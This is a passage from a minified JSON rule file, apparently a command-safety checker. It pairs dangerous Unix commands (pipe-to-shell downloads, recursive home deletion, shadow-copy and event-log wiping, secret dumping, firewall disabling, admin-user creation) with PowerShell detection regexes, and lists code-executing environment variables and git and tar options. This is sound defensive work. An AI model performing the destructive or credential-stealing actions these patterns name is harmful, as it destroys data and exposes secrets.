+]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:\
+(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{\
+3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]\
+{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\
+\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 \
+$/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Con\
+tent|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\
+\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\
+\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\
+\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\\
+s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\
+\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\
+\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,\
+300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\
+\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|\
+&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin\
+|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)\
+","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGro\
+up|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Dba\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|VMSnapshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Sto\
+p-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|Curr\
+entUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"useradd x":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})New-LocalUser\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf\
+(?![:\\\\w]))"],"usermod -aG sudo x":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Add-LocalGroupMember\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{0,200}Admin"],"ufw disabl\
+e":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Set-NetFirewallProfile\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{0,200}\\\\s-Enabled:?\\\\s+[\\"']?(?:False|\\\\$false)"],"curl\
+ x | sh":["\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*[&.]\\\\s*\\\\(?\\\\s*[\\"']?(?:iex|Invoke-Expression)\\\\b","[&.]\\\\s*\\\\((?:Get-A\
+lias|gal|Get-Command|gcm)\\\\s[^)\\\\n]{0,40}[?*][^)\\\\n]{0,40}\\\\)\\\\s{0,9}\\\\(?\\\\s{0,9}(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\\\\b","\\\\bscriptblock\\\\]::Create\\\
+\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\\
+S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-\
+Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,30\
+0}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","comma\
+nd","encoded"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\\
+"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$\\\\n]{0,500}\\\
+\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bInvoke-ScriptAnalyzer\\\\s+-ScriptDefinition\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\
+\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\\
+2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf \`x\`/*":["(?<![\
+\\"'])\\\\b(?:Remove-Item|ri|rm|rd|rmdir|del)\\\\b(?=[^;\\\\n|]{0,200}\\\\s-[rR])(?![^;\\\\n|#]{0,200}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,200}?\\\\s[\\"']?\\\\$env:(?!TEMP\\\\b|TMP\\\\\
+b)\\\\w+[\\\\\\\\/]\\\\*"],"vssadmin delete shadows":["\\\\bWin32_ShadowCopy\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject|ForEach-Object[^;\\\\n]{0,200}\\\\\
+.Delete\\\\()"],"wevtutil cl System":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})wevtutil(?:\\\\.exe)?\\\\s+(?:cl|clear-log)\\\\b","\\\\bEventLogSession\\\\b[^;\\\\n]{0,200}\\\\.ClearLog\\\\(\
+"],"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Di\
+rectory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Includ\
+e)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[i\
+I]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n\
+|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include\
+|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(\
+?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;\
+|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\b(?:Get-ChildIte\
+m|gci)\\\\s+(?:-Path\\\\s+)?([\\"'][^|\\\\n;]{1,400}?[\\"'])(?=\\\\s+-|\\\\s*\\\\|)[^|\\\\n;]{0,100}\\\\|\\\\s*(?:ForEach-Object|%)\\\\s*\\\\{[^}\\\\n]{0,200}\\\\b(?:Get-Content|gc)\\\\b"],"\
+cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"\
+']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\
+\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\
+\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|slee\
+p|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\
+\\\\s+-\\\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\\
+"']([^\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetU\
+DPEndpoint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s\
+-WhatIf(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Nam\
+e\\\\s+[\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"\
+']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[\
+^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b\
+(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Co\
+ntent|Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::\
+Delete\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive\
+:))(?:\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\\
+s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAc\
+cessTime|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s\
++([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|r\
+s|java|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\
+\\\\s+([\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sql\
+cmd|redis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\
+\\.exe)?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?<![/\\\\\\\\.\\\\w])(?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\\
+w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+|Mailbox|DistributionGroup|Unified\\\\w+|Msol\\\\w+|SPO\\\\w+|PnP\\\\w+|Dba\\\\w+|Team|DnsServer\\\\w+|DhcpServer\\\\w+|GPO|ClusterResource|VMS\
+napshot|VirtualDisk|StoragePool)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPrefere\
+nce|Set-ExecutionPolicy(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"useradd x":["(?<=(?:^|[;{}\\\\n|\
+])\\\\s{0,40})New-LocalUser\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"],"usermod -aG sudo x":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Add-LocalGroupMember\\\\b(?![^;\\\\n]{0,300\
+}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{0,200}Admin"],"ufw disable":["(?<=(?:^|[;{}\\\\n|])\\\\s{0,40})Set-NetFirewallProfile\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n]{\
+0,200}\\\\s-Enabled:?\\\\s+[\\"']?(?:False|\\\\$false)"],"curl x | sh":["\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*[&.]\\\\s*\\\\(?\\\\s*[\
+\\"']?(?:iex|Invoke-Expression)\\\\b","[&.]\\\\s*\\\\((?:Get-Alias|gal|Get-Command|gcm)\\\\s[^)\\\\n]{0,40}[?*][^)\\\\n]{0,40}\\\\)\\\\s{0,9}\\\\(?\\\\s{0,9}(?:iwr|irm|Invoke-WebReq\
+uest|Invoke-RestMethod)\\\\b","\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invok\
+e-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\\
+S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_\
+KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}}},"code_variables":{"man":{"variables":["MA\
+NPAGER","PAGER"]},"apropos":{"variables":["MANPAGER","PAGER"]},"whatis":{"variables":["MANPAGER","PAGER"]},"less":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT\
+","VISUAL","EDITOR"]},"zless":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VISUAL","EDITOR"]},"lesspipe":{"variables":["LESSOPEN","LESSCLOSE","LESSEDIT","VI\
+SUAL","EDITOR"]},"journalctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"systemctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"log\
+inctl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"timedatectl":{"variables":["SYSTEMD_PAGER","SYSTEMD_EDITOR","PAGER"]},"crontab":{"variables":["\
+SUDO_EDITOR","VISUAL","EDITOR"]},"visudo":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vipw":{"variables":["SUDO_EDITOR","VISUAL","EDITOR"]},"vigr":{"variab\
+les":["SUDO_EDITOR","VISUAL","EDITOR"]},"sudo":{"variables":["SUDO_EDITOR","SUDO_ASKPASS","VISUAL","EDITOR"]},"sudoedit":{"variables":["SUDO_EDITOR","SUDO_ASKPA\
+SS","VISUAL","EDITOR"]},"kubectl":{"variables":["KUBE_EDITOR","EDITOR"]},"oc":{"variables":["KUBE_EDITOR","EDITOR"]},"k":{"variables":["KUBE_EDITOR","EDITOR"]},\
+"gh":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSER","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"glab":{"variables":["GH_PAGER","GH_EDITOR","GH_BROWSE\
+R","PAGER","EDITOR","VISUAL","BROWSER","GIT_EDITOR"]},"psql":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mysql":{"variables":["PSQL_PA\
+GER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"mariadb":{"variables":["PSQL_PAGER","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"sqlite3":{"variables":["PSQL_PAGE\
+R","PSQL_EDITOR","PAGER","EDITOR","VISUAL"]},"hg":{"variables":["HGEDITOR","PAGER","EDITOR","VISUAL"]},"svn":{"variables":["SVN_SSH","SVN_EDITOR","EDITOR","VISU\
+AL"]},"bat":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"delta":{"variables":["BAT_PAGER","DELTA_PAGER","PAGER"]},"ssh":{"variables":["SSH_ASKPASS"]},"scp\
+":{"variables":["SSH_ASKPASS"]},"sftp":{"variables":["SSH_ASKPASS"]},"ssh-add":{"variables":["SSH_ASKPASS"]},"aws":{"variables":["AWS_PAGER","PAGER"]},"rsync":{\
+"variables":["RSYNC_RSH"]},"cvs":{"variables":["CVS_RSH","CVSEDITOR","EDITOR"]}},"git_variables":["GIT_SSH_COMMAND","GIT_SSH","GIT_EXTERNAL_DIFF","GIT_EDITOR","\
+GIT_SEQUENCE_EDITOR","GIT_PAGER","GIT_ASKPASS","GIT_PROXY_COMMAND","EDITOR","VISUAL","PAGER","SSH_ASKPASS"],"git_code":{"rebase":{"short":"x","long":["exec"],"c\
+ode":["x","exec"]},"filter-branch":{"short":"","long":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter",\
+"setup"],"code":["tree-filter","index-filter","env-filter","msg-filter","parent-filter","commit-filter","tag-name-filter","setup"]},"difftool":{"short":"x","lon\
+g":["extcmd"],"code":["x","extcmd"]},"fetch":{"short":"","long":["upload-pack"],"code":["upload-pack"]},"pull":{"short":"","long":["upload-pack"],"code":["uploa\
+d-pack"]},"clone":{"short":"u","long":["upload-pack"],"code":["u","upload-pack"]},"ls-remote":{"short":"","long":["upload-pack","exec"],"code":["upload-pack","e\
+xec"]},"push":{"short":"","long":["receive-pack","exec"],"code":["receive-pack","exec"]},"archive":{"short":"","long":["exec"],"code":["exec"]},"grep":{"short":\
+"","long":["open-files-in-pager"],"code":["open-files-in-pager"]}},"code_options":{"tar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-pr\
+ogram","rsh-command","info-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new\
+-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},"bsdtar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info\
+-script","new-volume-script"],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern"\
+:"^(?:exec=)?([\\\\s\\\\S]+)$"},"gtar":{"short":"IF","long":["checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"\
+],"code":["I","F","checkpoint-action","to-command","use-compress-program","rsh-command","info-script","new-volume-script"],"pattern":"^(?:exec=)?([\\\\s\\\\S]+)$"},\
+"gdb":{"short":"x","long":["ex","eval-command"],"code":["ex","eval-command"],"pattern":"^\\\\s*(?:shell|!)\\\\s*(.+)"},"osascript":{"short":"el","code":["e"],"patte\
+rn":"do shell script \\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\""},"concurrently":{"short":"ncpm","long":["names","prefix"],"operands":"code"},"rsync":{"short":"efBM","long":["r\
+sh","rsync-path"],"code":["e","rsh","rsync-path"]},"scp":{"short":"cFiJloPS","code":["S"]},"zip":{"long":["TT","unzip-command"],"code":["TT","unzip-command"]},"\
+sftp":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"code":["b","e","c"],"does":{"scp -r $ unknown:":["(?:^|[\\\\n;])[ \\\\t]*-?(?:put|mput|reput|send|append|mirro\
+r[ \\\\t]+(?:-\\\\w*R\\\\w*|--reverse))[ \\\\t]+(?:-\\\\S+[ \\\\t]+){0,9}([^\\\\n;]+)"]}},"ftp":{"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"code":["b","e","c"],"does":{"s\
+cp -r $ unknown:":["(?:^|[\\\\n;])[ \\\\t]*-?(?:put|mput|reput|send|append|mirror[ \\\\t]+(?:-\\\\w*R\\\\w*|--reverse))[ \\\\t]+(?:-\\\\S+[ \\\\t]+){0,9}([^\\\\n;]+)"]}},"lftp":{\
+"short":"BbcDFiJloPRSsXepu","long":["rcfile"],"code":["b","e","c"],"does":{"scp -r $ unknown:":["(?:^|[\\\\n;])[ \\\\t]*-?(?:put|mput|reput|send|append|mirror[ \\\\t]\
